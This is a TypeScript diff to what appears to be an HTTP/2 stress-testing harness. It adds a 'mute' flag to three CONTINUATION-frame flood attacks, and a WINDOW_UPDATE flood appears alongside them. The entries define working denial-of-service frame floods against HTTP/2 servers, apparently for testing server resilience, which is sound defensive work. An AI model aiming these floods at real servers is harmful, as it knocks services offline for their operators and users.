@@ -39,16 +39,19 @@ export const FRAME_FLOODS: readonly Attack[] = [
   clientAttack({ name: "window-updates", piece: () => frame(FrameType.WINDOW_UPDATE, 0, 0, uint32(1)) }),
   clientAttack({
     name: "continuation",
+    mute: true,
     opening: (connection) => frame(FrameType.HEADERS, 0, connection.takeId(), callBlock(PATH)),
     piece: () => frame(FrameType.CONTINUATION, 0, 1, [0x84]),
   }),
   clientAttack({
     name: "continuation-empty",
+    mute: true,
     opening: (connection) => frame(FrameType.HEADERS, 0, connection.takeId(), callBlock(PATH)),
     piece: () => frame(FrameType.CONTINUATION, 0, 1),
   }),
   clientAttack({
     name: "continuation-full",
+    mute: true,
     opening: (connection) => frame(FrameType.HEADERS, 0, connection.takeId(), callBlock(PATH)),
     piece: () => frame(FrameType.CONTINUATION, 0, 1, Buffer.alloc(16_384, 0x84)),
   }),
